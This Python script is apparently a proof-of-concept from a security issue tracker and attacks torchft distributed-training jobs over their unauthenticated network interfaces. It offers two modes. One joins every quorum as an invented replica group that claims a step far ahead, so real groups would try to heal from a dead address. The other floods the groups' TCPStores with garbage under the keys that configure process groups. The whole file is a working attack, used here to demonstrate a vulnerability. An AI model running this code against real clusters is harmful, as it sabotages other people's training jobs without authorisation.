"""What an outsider who reaches a torchft-mode job's nodes can do as a *peer* of it (issue 38,
class 5): join its quorums as an invented replica group, or write into its groups' stores.

    python ft_peer_attack.py replica HOST PORT_LOW PORT_HIGH SECONDS
    python ft_peer_attack.py store   HOST PORT_LOW PORT_HIGH SECONDS

Both find the job's lighthouse as ``outside_kill_attack.py`` does (a scan of ``HOST``'s ports
for torchft's status page).  Unlike the kill attack they speak torchft's and torch's own
protocols, so they need torch and torchft: any user can install both in their home; on the
test machine the attacker runs as root only because torch lives in root's home there (nothing
here uses a privilege: every call is an unauthenticated network request).

* ``replica``: for ``SECONDS``, join every quorum the lighthouse forms as the replica group
  ``n0:outsider`` (it sorts first, so its store would be the quorum's), claiming a step far
  ahead of the job's (so every real group would heal from it), with a manager and a store
  address where nothing listens, and heartbeat it.
* ``store``: for ``SECONDS``, write garbage, as fast as it can, under the keys through which
  torchft configures each quorum's process group (``torchft/<quorum>/<group rank>/...``, gloo's
  pair addresses), for the quorum ids the status page shows and the next ones, in every store
  the page names.

Prints one JSON object on its last line: what was tried and what came back.
"""

from __future__ import annotations

import json
import re
import sys
import threading
import time
from collections import Counter
from datetime import timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from outside_kill_attack import find_lighthouse, status_page

OUTSIDER = "n0:outsider"
FAR_AHEAD = 1_000_000
_ADDRESS = re.compile(r"\b(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})\b")
_QUORUM_ID = re.compile(r"[Qq]uorum[^0-9]{0,40}?(\d+)")


def invented_replica(host: str, port: int, seconds: float) -> dict[str, object]:
    from torchft._torchft import LighthouseClient

    client = LighthouseClient(f"http://{host}:{port}", timedelta(seconds=5))
    nowhere = f"{host}:1"  # a port nothing listens on
    stop = time.monotonic() + seconds
    counts: Counter[str] = Counter()
    sizes: list[int] = []

    def heartbeat() -> None:
        while time.monotonic() < stop:
            try:
                client.heartbeat(OUTSIDER)
                counts["heartbeats"] += 1
            except Exception:  # (any refusal: keep beating)
                pass
            time.sleep(0.1)

    beat = threading.Thread(target=heartbeat, daemon=True)
    beat.start()
    while time.monotonic() < stop:
        try:
            quorum = client.quorum(
                replica_id=OUTSIDER,
                timeout=timedelta(seconds=max(1.0, min(10.0, stop - time.monotonic()))),
                address=f"http://{nowhere}",
                store_address=nowhere,
                step=FAR_AHEAD,
                world_size=1,
                shrink_only=False,
            )
            counts["quorums"] += 1
            sizes.append(len(quorum.participants))
        except Exception:  # (a quorum that timed out or was refused)
            counts["errors"] += 1
            time.sleep(0.2)
    beat.join(timeout=5)
    return {**counts, "sizes": sorted(set(sizes))}


def store_writes(host: str, port: int, seconds: float) -> dict[str, object]:
    import torch.distributed as dist

    stop = time.monotonic() + seconds
    counts: Counter[str] = Counter()
    stores: dict[tuple[str, int], dist.TCPStore | None] = {}
    while time.monotonic() < stop:
        page = status_page(host, port) or ""
        counts["pages"] += 1
        ids = [int(q) for q in _QUORUM_ID.findall(page)] or [0]
        for addr, store_port in set(_ADDRESS.findall(page)):
            key = (addr, int(store_port))
            if key in stores or int(store_port) == port:
                continue
            try:
                stores[key] = dist.TCPStore(
                    addr, int(store_port), is_master=False, timeout=timedelta(seconds=2)
                )
            except Exception:  # (a manager's port, not a store)
                stores[key] = None
        live = [st for st in stores.values() if st is not None]
        round_end = time.monotonic() + 1.0  # then read the page again (new quorum ids)
        while time.monotonic() < min(stop, round_end) and live:
            for store in live:
                for quorum in range(max(ids), max(ids) + 3):
                    for group in range(2):
                        for a in range(4):
                            for b in range(4):
                                try:
                                    store.set(f"torchft/{quorum}/{group}/{a}/{b}", b"garbage")
                                    store.set(f"torchft/{quorum}/{group}/0/rank_{a}", b"garbage")
                                    counts["writes"] += 2
                                except Exception:  # (a store gone)
                                    counts["errors"] += 1
        if not live:
            time.sleep(0.5)
    found = sorted(f"{a}:{p}" for (a, p), s in stores.items() if s is not None)
    return {**counts, "stores": found}


def main() -> int:
    mode, host, low, high, seconds = sys.argv[1:6]
    port = find_lighthouse(host, int(low), int(high))
    if port is None:
        print(json.dumps({"mode": mode, "lighthouse": None}))
        return 1
    attack = invented_replica if mode == "replica" else store_writes
    counts = attack(host, port, float(seconds))
    print(json.dumps({"mode": mode, "lighthouse": port, **counts}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
